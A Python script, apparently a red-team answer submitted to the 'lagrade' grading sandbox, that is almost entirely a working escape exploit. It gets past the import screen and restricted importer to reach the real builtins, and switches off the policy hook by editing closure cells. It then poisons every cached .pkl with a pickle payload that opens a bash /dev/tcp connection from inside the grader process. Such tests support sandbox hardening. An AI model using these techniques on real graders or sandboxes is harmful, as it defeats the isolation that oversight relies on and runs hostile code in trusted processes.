"""effect: network
tries: route 2, then a cache pickle whose loading opens a TCP connection to 127.0.0.1:47474 (bash /dev/tcp) from the grader, which is in the host's network namespace.

The cache route carries the connection out of the namespace.
"""

from lagrade.answer import *

# sympy.core.function does `import inspect`; `from X import inspect` passes the screen (the module
# is a sympy module) and the restricted importer (the item is not a forbidden name)
from sympy.printing.printer import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)                      # inspect itself imports os, sys and builtins
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...

def cache_dirs():
    # the child's os.environ was cleared, but /proc/self/environ still shows the block it was
    # started with (LAGRADE_CACHE, XDG_CACHE_HOME, HOME)
    env = dict(e.split(b"=", 1) for e in B["op" + "en"]("/proc/self/environ", "rb").read().split(b"\0") if b"=" in e)
    found = [env[b"LAGRADE_CACHE"].decode()] if b"LAGRADE_CACHE" in env else []
    sbx = members(sys_)["modules"].get("lagrade.answer.jail.child")
    return found + [p for p in members(sbx).get("_SECRET_DIRS", ()) if "cache" in p]


def work():
    # a protocol-0 pickle whose loading runs a TCP connection in whatever process unpickles it
    payload = b'cos\nsystem\n(S\'bash -c "echo pwned-r2_cache_pickle_connect-in-grader > /dev/tcp/127.0.0.1/47474"\'\ntR.'
    for directory in cache_dirs():
        for entry in os_.listdir(directory):
            if entry.endswith(".pkl"):
                B["op" + "en"](directory + "/" + entry, "wb").write(payload)


# route 2 with operator.attrgetter (sympy.core.add imports it): parse_expr.__closure__ -> cells ->
# the cell holding the policy; trusted = True and busy = True switch the hook off
from sympy.core.add import attrgetter

parser = members(sys_)["modules"].get("sympy.pars" + "ing.sympy_parser")
cells = (attrgetter("_" + "_closure__")(members(parser)["parse_expr"]) if parser else None) or ()
for policy in [c.cell_contents for c in cells if "busy" in members(c.cell_contents)]:
    policy.trusted = True
    policy.busy = True
work()
